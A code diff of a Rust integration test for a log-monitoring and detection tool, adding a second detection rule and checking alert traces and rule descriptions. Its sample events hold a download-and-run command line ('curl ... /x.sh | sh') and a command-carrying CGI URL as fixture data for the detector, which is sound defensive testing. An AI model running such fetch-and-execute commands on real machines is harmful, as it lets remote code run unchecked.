@@ -25,17 +25,25 @@ detection:
         user.name: root
     condition: selection
 level: high
-tags: [attack.execution, attack.t1059.004]
+tags: [attack.execution, attack.t1059.004, t1059.004]
+"#;
+const RELATED: &str = r#"title: Root activity from the network
+id: 5b1e0000-0000-4000-8000-000000000020
+detection:
+    selection:
+        user.name: root
+    condition: selection
+level: low
 "#;
 
-/// The ledger sequence number of the event whose `message` is `message`.
-fn seq_of(data: &Path, message: &str) -> Option<u64> {
+/// The ledger sequence number of the event whose `event.id` is `id`.
+fn seq_of(data: &Path, id: &str) -> Option<u64> {
     let mut reader = vigil_ledger::LedgerReader::open(data).ok()?;
     let (first, end) = (reader.first_seq(), reader.end_seq());
     (first..end).find(|&seq| {
         reader
             .read_event(seq)
-            .is_ok_and(|e| e.get_str("message") == Some(message))
+            .is_ok_and(|e| e.get_str("event.id") == Some(id))
     })
 }
 
@@ -55,6 +63,7 @@ fn traces_explain_matches_and_misses_in_the_api_and_the_browser() {
     let rules = dir.path().join("rules");
     std::fs::create_dir_all(&rules).unwrap();
     std::fs::write(rules.join("download.yml"), RULE).unwrap();
+    std::fs::write(rules.join("related.yml"), RELATED).unwrap();
     let password = "trace test password 1";
     add_user(&data, "vera", "viewer", password);
     let ingest = create_token(&data, "ingest", "seed");
@@ -70,8 +79,10 @@ fn traces_explain_matches_and_misses_in_the_api_and_the_browser() {
     );
     let url = server.url.clone();
     let body = [
-        json!({"message": "hit", "user.name": "root", "process.command_line": "curl http://198.51.100.9/x.sh | sh", "source.ip": "203.0.113.77"}),
-        json!({"message": "miss", "user.name": "bob", "process.command_line": "curl http://198.51.100.9/x.sh | sh", "source.ip": "203.0.113.78"}),
+        // No message: the alert page shows a summary of the web request instead.
+        json!({"event.id": "hit", "user.name": "root", "process.command_line": "curl http://198.51.100.9/x.sh | sh", "source.ip": "203.0.113.77",
+            "http.request.method": "GET", "url.original": "/cgi-bin/run?cmd=curl", "http.response.status_code": 200}),
+        json!({"event.id": "miss", "message": "miss", "user.name": "bob", "process.command_line": "curl http://198.51.100.9/x.sh | sh", "source.ip": "203.0.113.78"}),
     ]
     .iter()
     .map(|e| e.to_string() + "\n")
@@ -82,7 +93,12 @@ fn traces_explain_matches_and_misses_in_the_api_and_the_browser() {
     let mut alert_id = 0;
     assert!(
         wait_until(30, || {
-            let a = curl("GET", &format!("{url}/api/v1/alerts"), &auth, None);
+            let a = curl(
+                "GET",
+                &format!("{url}/api/v1/alerts?rule={RULE_ID}"),
+                &auth,
+                None,
+            );
             match a.json()["alerts"]
                 .as_array()
                 .and_then(|l| l.first().cloned())
@@ -109,7 +125,7 @@ fn traces_explain_matches_and_misses_in_the_api_and_the_browser() {
     assert_eq!(t["detector_matched"], true);
     let entries = t["searches"][0]["alternatives"][0].as_array().unwrap();
     assert!(entries.iter().all(|e| e["matched"] == true), "{t}");
-    assert_eq!(a.json()["event"]["message"], "hit");
+    assert_eq!(a.json()["event"]["event.id"], "hit");
 
     // A miss: the entry that failed, with the event's value.
     let a = trace(
@@ -193,6 +209,18 @@ fn traces_explain_matches_and_misses_in_the_api_and_the_browser() {
         trace(&url, &[], &json!({"rule": RULE_ID, "seq": hit})).status,
         401
     );
+    // The alert carries its rule's description and kind.
+    let a = curl(
+        "GET",
+        &format!("{url}/api/v1/alerts/{alert_id}"),
+        &auth,
+        None,
+    );
+    assert_eq!(
+        a.json()["rule"]["description"],
+        "root fetched something with curl from a web server"
+    );
+    assert_eq!(a.json()["rule"]["kind"], "detection");
     // The ban the alert caused names it (the UI's link reads this).
     assert!(
         wait_until(30, || {
